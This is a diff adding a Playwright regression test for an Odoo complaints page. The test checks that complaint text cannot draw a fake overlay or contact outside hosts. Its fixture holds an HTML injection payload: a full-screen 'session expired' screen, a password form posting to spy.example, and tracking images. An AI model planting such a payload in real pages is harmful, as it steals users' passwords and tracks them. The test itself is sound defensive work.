@@ -9,6 +9,13 @@ from rpc import Refused
 QUESTION = {"nl": "Vraag beantwoorden", "en": "Answer the question"}
 YES = {"nl": "Ja", "en": "Yes"}
 CONFIRM = {"nl": "Bevestigen", "en": "Confirm"}
+OVERLAY = (
+    '<div class="modal d-block" style="position:fixed;top:0;left:0;width:100vw;'
+    'height:100vh;background:#fff url(http://spy.example/c);z-index:99999">'
+    "<h1>Uw sessie is verlopen</h1>"
+    '<form action="http://spy.example"><input name="password"></form>'
+    '<img src="http://spy.example/1.gif" srcset="//spy.example/2.gif 2x"></div>'
+)
 WORDS = "Ik sprak de heer Kwaliteit. Hij lachte mij uit en hing op."
 
 
@@ -101,3 +108,25 @@ def test_running_session_is_shut_at_once(people, post, organisation, browser):
         ["body"],
     )
     assert found == []
+
+
+def test_words_from_outside_cover_nothing_and_call_nobody(
+    people, organisation, browser, folder
+):
+    """A complaint that draws a fake page over Odoo and counts who reads it."""
+    officer, elsewhere = people["officer"], []
+    case = file_complaint(people, organisation, "Vals scherm", OVERLAY)
+    page = browser.page("/odoo/complaints", officer)
+    page.on("request", lambda request: elsewhere.append(request.url))
+    page.goto(page.url.split("/odoo")[0] + f"/odoo/complaints/{case}")
+    words = page.locator("[name=statement]").first
+    expect(words).to_contain_text("Uw sessie is verlopen")
+    expect(words).to_contain_text("spy.example")
+    photograph(page, folder / "words-from-outside.png")
+    fixed = words.evaluate(
+        """(field) => [...field.querySelectorAll("*")].filter((element) =>
+            ["fixed", "absolute", "sticky"].includes(
+                getComputedStyle(element).position)).length"""
+    )
+    assert not fixed
+    assert not [url for url in elsewhere if "spy.example" in url]
